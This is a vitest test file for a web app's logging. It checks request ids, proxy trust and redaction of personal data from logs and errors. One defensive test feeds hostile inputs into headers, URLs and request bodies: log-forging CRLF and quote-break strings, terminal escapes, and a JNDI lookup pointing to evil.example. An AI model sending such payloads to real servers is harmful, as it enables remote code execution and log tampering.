import { beforeEach, expect, test } from 'vitest';
import type { Caravan } from '../../../test/caravan.ts';
import { prepareProduct } from '../../../test/prepare-product.ts';
import { createLog } from '../platform/log.ts';
import { createApp } from './app.ts';

const caravan = prepareProduct();

let written = '';
beforeEach(() => {
  written = '';
});

/** The product writing its log to where it can be read. */
function appLogging(logLevel: 'debug' | 'info', other: Partial<Caravan['deps']> = {}) {
  const log = createLog({ logLevel }, { write: (line) => (written += line) });
  return createApp({
    addresses: null,
    deps: { ...caravan.deps, log, ...other },
    renderPage: ({ onError }) => {
      onError(new Error('no pages for ali@trade.example'), '/mall/{params...}');
      return Promise.resolve({ status: 500, headers: {}, body: [] });
    },
    files: null,
  });
}

const lines = (): Record<string, unknown>[] =>
  written
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

const countries = '/api/user-web/client/country/getList';

test('a request is one line with its id, call, status and time; the id goes out with the answer', async () => {
  const response = await appLogging('debug').request(countries);
  const requestId = response.headers.get('x-request-id');
  expect(requestId).toMatch(/^[0-9a-f-]{36}$/);
  expect(lines()).toEqual([
    {
      level: 20,
      time: expect.any(String),
      requestId,
      call: 'reference.countries',
      status: 200,
      ms: expect.any(Number),
      msg: 'request',
    },
  ]);
});

test('what went well is not written at the usual level, what was refused is', async () => {
  const app = appLogging('info');
  await app.request(countries);
  expect(lines()).toEqual([]);
  await app.request('/api/order-web/client/order/getBuyerPage');
  expect(lines()).toMatchObject([{ level: 30, call: 'orders.listForBuyer', status: 401 }]);
});

test('only a proxy of ours may name a request', async () => {
  const asked = { headers: { 'x-request-id': 'from-the-proxy' } };
  const alone = await appLogging('info').request(countries, asked);
  expect(alone.headers.get('x-request-id')).not.toBe('from-the-proxy');
  const config = { ...caravan.deps.config, trustProxy: true };
  const behind = await appLogging('info', { config }).request(countries, asked);
  expect(behind.headers.get('x-request-id')).toBe('from-the-proxy');
});

test('nothing a visitor sends gets into the log, nor can it write a line of its own', async () => {
  const app = appLogging('debug');
  const hostile = [
    'ali@trade.example',
    '13800001111',
    'Secret-Password-9',
    '\r\n{"level":60,"msg":"forged"}',
    '\u202Edessap tidua',
    '\u001B[2J',
    '"}\n{"msg":"forged',
    '${jndi:ldap://evil.example/x}',
  ];
  for (const text of hostile) {
    const value = encodeURIComponent(text);
    const headers = {
      'content-type': 'application/json',
      'user-agent': value,
      referer: `https://evil.example/${value}`,
      'x-request-id': value,
      accesstoken: value,
      cookie: `token=${value}; language=${value}`,
      'x-forwarded-for': value,
    };
    const body = JSON.stringify({ userName: text, password: text, code: text, userType: 1 });
    await app.request(`/api/user-web/client/user/login?name=${value}`, { method: 'POST', headers, body });
    await app.request(`/api/user-web/client/user/register`, { method: 'POST', headers, body: text });
    await app.request(`/api/${value}?q=${value}`, { headers });
    await app.request(`/en/mall/${value}?keyword=${value}`, { headers });
    await app.request(`/files/${value}`, { headers });
  }
  expect(lines().length).toBeGreaterThan(hostile.length * 4);
  for (const line of lines()) {
    expect(
      Object.keys(line).every((key) => known.has(key)),
      JSON.stringify(line),
    ).toBe(true);
    if (line.msg === 'request') expect(line.call).toMatch(/^[a-z]+(\.[A-Za-z]+)?$/);
  }
  expect(written).not.toMatch(/ali(@|%40)|1380000|Secret-Password|forged"}|"level":60/);
  for (const character of ['\u202E', '\u001B']) expect(written).not.toContain(character);
});

const known = new Set(['level', 'time', 'requestId', 'call', 'status', 'ms', 'msg', 'err', 'screen']);

test('an error is written with its place, and without the values that the database tells of', async () => {
  const log = createLog({ logLevel: 'info' }, { write: (line) => (written += line) });
  const error = Object.assign(new Error('duplicate key: (email)=(ali@trade.example)'), {
    code: '23505',
    detail: 'Key (email)=(ali@trade.example) already exists.',
    parameters: ['13800001111'],
  });
  log.error({ err: error }, 'a call failed');
  log.error({ error }, 'a job failed');
  expect(written).not.toMatch(/ali@|1380/);
  for (const line of lines()) {
    expect(line.err ?? line.error).toMatchObject({
      errorCode: '23505',
      stack: expect.stringMatching(/^\s+at /),
    });
  }
});
